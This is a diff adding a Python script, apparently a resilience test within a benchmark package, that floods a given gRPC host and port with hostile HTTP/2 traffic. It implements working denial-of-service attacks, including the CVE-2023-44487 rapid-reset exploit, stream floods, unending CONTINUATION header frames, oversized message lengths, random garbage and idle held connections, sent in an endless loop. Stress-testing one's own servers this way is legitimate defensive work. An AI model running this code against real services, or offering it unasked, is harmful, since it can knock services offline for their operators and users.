@@ -1,0 +1,111 @@
+"""`python -m attacker HOST:PORT PACE`: does to a gRPC port whatever a stranger can, until it is ended.
+
+Of each kind so many a second: connections that say garbage, or nothing; calls that are reset at once; more
+calls than a connection may have; huge headers; messages that are too long, or none. No answer is read.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+import socket
+import struct
+import sys
+import time
+from collections import deque
+from collections.abc import Callable
+
+from eaas.bench.monitor.http2 import (
+    CANCEL,
+    DATA,
+    HEADERS,
+    OPENING,
+    RST_STREAM,
+    frame,
+    message,
+    request_head,
+)
+
+CONNECT = "/eaas.rpc.v1.ExpertService/Connect"
+EXCHANGE = "/eaas.rpc.v1.ExpertService/Exchange"
+_CONTINUATION = 9
+_RESETS = 100
+# Open at a time; the oldest is closed for a new one.
+_KEPT = 200
+
+
+def resets(authority: str) -> bytes:
+    """CVE-2023-44487."""
+    calls = (
+        request_head(2 * i + 1, CONNECT, authority) + frame(RST_STREAM, 0, 2 * i + 1, CANCEL)
+        for i in range(_RESETS)
+    )
+    return OPENING + b"".join(calls)
+
+
+def streams(authority: str) -> bytes:
+    return OPENING + b"".join(request_head(2 * i + 1, EXCHANGE, authority) for i in range(500))
+
+
+def headers(authority: str) -> bytes:
+    """More and more of them, without an end."""
+    head = request_head(1, CONNECT, authority)[9:]
+    entry = b"\0\1x\x7e" + b"a" * 126
+    pieces = (frame(_CONTINUATION, 0, 1, entry * 100) for _ in range(20))
+    return OPENING + frame(HEADERS, 0, 1, head) + b"".join(pieces)
+
+
+def lengths(authority: str) -> bytes:
+    long = struct.pack(">BI", 0, (1 << 31) - 1) + b"a" * 1000
+    return OPENING + request_head(1, CONNECT, authority) + frame(DATA, 0, 1, long)
+
+
+def rubbish(authority: str) -> bytes:
+    body = message(random.randbytes(200))
+    call = OPENING + request_head(1, CONNECT, authority) + frame(DATA, 1, 1, body)
+    return call + request_head(3, EXCHANGE, authority) + frame(DATA, 1, 3, body)
+
+
+def garbage(_authority: str) -> bytes:
+    return random.randbytes(500)
+
+
+def nothing(_authority: str) -> bytes:
+    return b""
+
+
+KINDS: tuple[Callable[[str], bytes], ...] = (
+    resets,
+    streams,
+    headers,
+    lengths,
+    rubbish,
+    garbage,
+    nothing,
+)
+
+
+def main(address: str, pace: float) -> None:
+    # As if it were another machine's processor.
+    os.nice(19)
+    host, _, port = address.rpartition(":")
+    said = [kind(address) for kind in KINDS]
+    kept: deque[socket.socket] = deque()
+    print("attacking", flush=True)
+    while True:
+        for data in said:
+            time.sleep(1 / pace / len(said))
+            connection = socket.create_connection((host, int(port)), timeout=5)
+            kept.append(connection)
+            if len(kept) > _KEPT:
+                kept.popleft().close()
+            connection.setblocking(False)
+            try:
+                connection.send(data)
+            except OSError:
+                # It was refused in the middle.
+                continue
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], float(sys.argv[2]))
